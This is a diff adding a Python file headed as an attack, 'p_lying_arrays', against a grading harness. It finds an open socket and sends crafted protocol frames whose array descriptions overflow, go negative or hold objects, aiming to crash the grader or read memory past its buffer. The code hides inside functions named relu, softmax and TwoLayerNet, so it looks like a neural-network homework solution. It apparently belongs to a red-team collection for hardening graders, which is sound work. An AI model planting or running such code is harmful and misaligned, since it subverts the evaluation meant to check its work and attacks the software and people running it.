@@ -1,0 +1,50 @@
+# ATTACK: p_lying_arrays
+# GROUP: protocol
+# GOAL: array descriptions that overflow, are negative, of booleans, floats or objects, or promise more than there is
+# SUCCESS: a fault of the grader or memory read beyond the buffer
+# CHECK: crash
+# EARNED: 0
+# BASE: none
+import json, os, struct
+
+PREFIX = struct.Struct("<2sBBIIQ")  # magic, version, kind, number, head bytes, payload bytes
+READY, REPLY, RAISED, CALLBACK = 32, 33, 34, 35
+
+
+def frame(kind, number, body=None, head=None, payload=b"", magic=b"AG", head_size=None, payload_size=None):
+    head = json.dumps(body).encode() if head is None else head
+    sizes = (len(head) if head_size is None else head_size, len(payload) if payload_size is None else payload_size)
+    return PREFIX.pack(magic, 1, kind, number, *sizes) + head + payload
+
+
+def reply(value, number, payload=b""):
+    return frame(REPLY, number, [value, [], "", []], payload=payload)
+
+
+def channel():
+    """The descriptor that is a socket: there is one."""
+    import stat
+    for fd in range(64):
+        try:
+            if stat.S_ISSOCK(os.fstat(fd).st_mode):
+                return fd
+        except OSError:
+            pass
+    return 3
+
+
+def send(data):
+    try:
+        os.write(channel(), data)
+    except OSError as error:
+        print("refused:", error)
+
+
+SHAPES = iter([["<f8", [2**32, 2**32]], ["|O", [1]], ["<f8", [-1]], ["<f8", [True]], ["<f8", [1.0]], ["<f8", [0] * 65],
+               ["<f8", [0, 2**40]], ["<f8,O", [1]], [{}, [1]], ["<f8", 3], ["<M8[s]", [1]], ["<f8", [3]], ["|b1", [2**63]]])
+def relu(x): send(frame(REPLY, 2, [{"a": next(SHAPES)}, [], "", []], payload=b"y" * 64))
+def softmax(x): return relu(x)
+def cross_entropy(y, t): return relu(y)
+def numerical_gradient(f, x): return relu(x)
+class TwoLayerNet:
+    def __init__(self, *sizes): relu(0)
